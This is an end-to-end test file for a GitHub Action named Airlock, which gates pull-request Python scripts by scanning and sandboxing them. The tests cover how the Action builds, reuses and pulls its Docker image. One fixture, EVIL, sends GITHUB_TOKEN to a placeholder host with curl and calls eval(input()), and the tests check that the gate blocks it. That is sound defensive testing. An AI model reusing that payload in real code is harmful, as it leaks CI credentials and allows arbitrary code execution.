import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { parse } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tryRunCommand } from '../../../src/exec/run-command.js';
import { type ActionRun, runActionBundle } from '../../helpers/action-bundle-runner.js';
import { type FakeGitHub, startFakeGitHub } from '../../helpers/fake-github.js';
import { commitOnBranch, initRepo } from '../../helpers/git-fixture.js';
import {
  copyImage,
  type PrivateDockerd,
  startPrivateDockerd,
} from '../../helpers/hostile-private-dockerd.js';

/**
 * The Action on a fresh runner: a private Docker engine that holds only the Debian
 * base image (no Airlock image) and can reach no image registry. Run in order:
 *   1. the default `image` input (action.yml's `auto`): the published image cannot be
 *      pulled, so the Action builds from its own images/ and gates the PR;
 *   2. the README's quick start, its `with:` read from the README: it reuses that build;
 *   3. the built image pushed to a registry on loopback (Debian's docker-registry),
 *      removed from the engine, and named by an overriding published file: the
 *      Action pulls it by digest and gates with it.
 * Wall times (cold build, pull, quick start) are printed for the record.
 */
const REPO = 'octo-org/octo-repo';
const BASE = 'debian:bookworm-slim';
const HOST_CA = '/etc/ssl/certs/ca-certificates.crt';
// 2-4 min on a quiet 2-core machine; more than 20 min was seen with other suites
// loading the machine to a load average of 20. Bounded, but generously.
const BUILD_BUDGET_MS = 35 * 60_000;

const BENIGN = `import json, os, statistics\nvalues = [3, 1, 4, 1, 5, 9, 2, 6]\nout = os.path.join(os.environ["AIRLOCK_OUTPUT_DIR"], "stats.json")\nwith open(out, "w") as f:\n    json.dump({"mean": statistics.mean(values)}, f)\nprint("mean", statistics.mean(values))\n`;
const EVIL = `import os, subprocess\nsubprocess.call("curl -d " + os.environ.get("GITHUB_TOKEN", "") + " http://x", shell=True)\neval(input())\n`;

let root: string;
let ws: string;
let pr: { repository: string; number: number; baseSha: string; headSha: string };
let fake: FakeGitHub;
let engine: PrivateDockerd;
let builtRef: string | undefined;

const onEngine = (args: string[], timeoutMs = 120_000) =>
  tryRunCommand('docker', args, {
    env: { PATH: process.env.PATH, HOME: process.env.HOME, DOCKER_HOST: engine.host },
    timeoutMs,
  });

/** A published.json naming `digest` for core (the default policy's flavor); full's is never pulled here. */
async function publishedFile(name: string, ref: string, digest: string): Promise<string> {
  const file = join(root, `${name}.json`);
  const full = `sha256:${'f'.repeat(64)}`;
  await writeFile(file, JSON.stringify({ ref, version: '0.1.0', digests: { core: digest, full } }));
  return file;
}

function run(
  withInputs: Record<string, string>,
  env: NodeJS.ProcessEnv,
  timeoutMs: number,
): Promise<ActionRun> {
  return runActionBundle({
    scratch: root,
    workspace: ws,
    pr,
    apiUrl: fake.url,
    token: fake.token,
    with: withInputs,
    env: { DOCKER_HOST: engine.host, NODE_EXTRA_CA_CERTS: HOST_CA, ...env },
    timeoutMs,
  });
}

async function report(): Promise<any> {
  return JSON.parse(await readFile(join(ws, '.airlock/out/report.json'), 'utf8'));
}

/** The gate's verdict on the PR's two scripts, from the files a runner keeps. */
async function expectGated(r: ActionRun): Promise<void> {
  expect(r.exitCode, r.log.slice(-4000)).toBe(1);
  const rep = await report();
  const byPath = Object.fromEntries(rep.scripts.map((s: any) => [s.path, s]));
  expect(Object.keys(byPath).sort()).toEqual(['analysis/evil.py', 'analysis/new_stats.py']);
  expect(byPath['analysis/evil.py'].decision).toBe('blocked');
  expect(byPath['analysis/new_stats.py'].level).toBe('low');
  expect(byPath['analysis/new_stats.py'].execution.status).toBe('success');
  // Both scanners of the real image ran: nothing was waved through on a gap.
  expect(rep.scanners.map((s: any) => [s.tool, s.status]).sort()).toEqual([
    ['bandit', 'ran'],
    ['semgrep', 'ran'],
  ]);
  expect(r.outputs.verdict).toBe('fail');
  expect(r.outputs['blocked-count']).toBe('1');
  expect(r.outputs['low-count']).toBe('1');
  expect(r.outputs['image-id']).toBe(rep.image.id);
  expect(r.summary).toContain('| `analysis/evil.py` |');
  expect(r.outputs['sarif-path']).toBe(join(ws, '.airlock/out/airlock.sarif'));
  const sarif = JSON.parse(await readFile(r.outputs['sarif-path']!, 'utf8'));
  expect(sarif.version).toBe('2.1.0');
  expect(JSON.stringify(sarif)).toContain('analysis/evil.py');
}

async function freePort(): Promise<number> {
  const srv = createServer();
  await new Promise<void>((done) => srv.listen(0, '127.0.0.1', done));
  const port = (srv.address() as { port: number }).port;
  await new Promise((done) => srv.close(done));
  return port;
}

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'airlock-image-e2e-'));
  ws = join(root, 'ws');
  const baseSha = await initRepo(ws, { 'analysis/old.py': BENIGN, 'README.md': '# fixture\n' });
  const headSha = await commitOnBranch(ws, 'feature', {
    'analysis/new_stats.py': BENIGN,
    'analysis/evil.py': EVIL,
  });
  pr = { repository: REPO, number: 7, baseSha, headSha };
  fake = await startFakeGitHub({ repository: REPO });
  engine = await startPrivateDockerd({ egress: true });
  await copyImage(BASE, engine.host);
}, 120_000);

afterAll(async () => {
  await fake?.close();
  await engine?.dispose();
  await rm(root, { recursive: true, force: true });
}, 120_000);

describe('the Action on an engine with no Airlock image', () => {
  it(
    'falls back to building from its own images/ when the published image cannot be pulled, then gates the PR',
    async () => {
      const images = await onEngine(['image', 'ls', '--format', '{{.Repository}}:{{.Tag}}']);
      expect(images.stdout.trim().split('\n')).toEqual([BASE]);
      // A published digest on a registry that does not answer: the runner's view of an outage.
      const dead = await freePort();
      const file = await publishedFile(
        'dead',
        `127.0.0.1:${dead}/airlock/sandbox`,
        `sha256:${'a'.repeat(64)}`,
      );

      const r = await run({ paths: 'analysis' }, { AIRLOCK_PUBLISHED_IMAGE_FILE: file }, BUILD_BUDGET_MS);
      console.log(`cold build in the private engine, whole Action run: ${(r.wallMs / 1000).toFixed(0)} s`);
      expect(r.log).toContain(`image: pulling 127.0.0.1:${dead}/airlock/sandbox@sha256:`);
      expect(r.log).toMatch(/building it instead/);
      expect(r.log).toMatch(/Step \d+\/\d+ : /); // the build's progress reached the log
      const built =
        /image: built (airlock-sandbox:0\.1\.0-core-[0-9a-f]{12}) \((sha256:[0-9a-f]{64})\) in (\d+) s/.exec(
          r.log,
        );
      expect(built, r.log.slice(-4000)).not.toBeNull();
      console.log(`cold build (docker build + wheelhouse): ${built![3]} s`);
      builtRef = built![1];
      await expectGated(r);
      expect((await report()).image.ref).toBe(builtRef);
    },
    BUILD_BUDGET_MS + 60_000,
  );

  it(
    "runs the README's quick start as pasted, reusing the earlier build",
    async () => {
      expect(builtRef, 'needs the build of the previous test').toBeDefined();
      const readme = await readFile(resolve('README.md'), 'utf8');
      const block = /## Quick start[\s\S]*?```yaml\n([\s\S]*?)```/.exec(readme)?.[1];
      expect(block, 'README has a quick-start yaml block').toBeDefined();
      const workflow = parse(block!) as {
        jobs: Record<string, { steps: { uses?: string; with?: Record<string, unknown> }[] }>;
      };
      const step = Object.values(workflow.jobs)
        .flatMap((j) => j.steps)
        .find((s) => /\/airlock@/.test(s.uses ?? ''));
      expect(step, 'the quick start uses the Action').toBeDefined();
      const withInputs = Object.fromEntries(Object.entries(step!.with ?? {}).map(([k, v]) => [k, String(v)]));
      await rm(join(ws, '.airlock'), { recursive: true, force: true });

      const r = await run(withInputs, {}, BUILD_BUDGET_MS);
      console.log(
        `quick start on the simulated fresh runner (image reused): ${(r.wallMs / 1000).toFixed(1)} s`,
      );
      expect(r.log).toContain(`image: reusing ${builtRef}`);
      await expectGated(r);
    },
    BUILD_BUDGET_MS + 60_000,
  );

  it(
    'pulls the published image by digest from a registry on loopback and gates with it',
    async () => {
      expect(builtRef, 'needs the build of the first test').toBeDefined();
      const port = await freePort();
      const regDir = join(root, 'registry');
      const config = join(root, 'registry.yml');
      await writeFile(
        config,
        `version: 0.1\nstorage:\n  filesystem:\n    rootdirectory: ${regDir}\nhttp:\n  addr: 127.0.0.1:${port}\n`,
      );
      const registry: ChildProcess = spawn('docker-registry', ['serve', config], { stdio: 'ignore' });
      try {
        for (let i = 0; i < 50; i++) {
          if ((await fetch(`http://127.0.0.1:${port}/v2/`).catch(() => null))?.ok) break;
          await sleep(200);
        }
        const repo = `127.0.0.1:${port}/airlock/sandbox`;
        expect((await onEngine(['tag', builtRef!, `${repo}:0.1.0`])).exitCode).toBe(0);
        const push = await onEngine(['push', `${repo}:0.1.0`], 600_000);
        expect(push.exitCode, push.stderr).toBe(0);
        const digest = /digest: (sha256:[0-9a-f]{64})/.exec(push.stdout)?.[1];
        expect(digest, push.stdout).toBeDefined();
        // The engine forgets the image: only the registry has it now.
        expect((await onEngine(['rmi', `${repo}:0.1.0`, builtRef!])).exitCode).toBe(0);
        // (The builder's untagged stage images stay; the sandbox image itself is gone.)
        expect((await onEngine(['image', 'inspect', builtRef!])).exitCode).not.toBe(0);
        expect((await onEngine(['image', 'inspect', `${repo}@${digest}`])).exitCode).not.toBe(0);

        const file = await publishedFile('live', repo, digest!);
        await rm(join(ws, '.airlock'), { recursive: true, force: true });
        const r = await run({ paths: 'analysis' }, { AIRLOCK_PUBLISHED_IMAGE_FILE: file }, BUILD_BUDGET_MS);
        const pulled = /image: pulled \S+ in ([\d.]+) s/.exec(r.log);
        expect(pulled, r.log.slice(-4000)).not.toBeNull();
        console.log(`pull of the built image from the loopback registry: ${pulled![1]} s`);
        expect(r.log).not.toMatch(/building it instead/);
        await expectGated(r);
        expect((await report()).image.ref).toBe(`${repo}@${digest}`);
      } finally {
        registry.kill('SIGTERM');
      }
    },
    BUILD_BUDGET_MS + 60_000,
  );
});
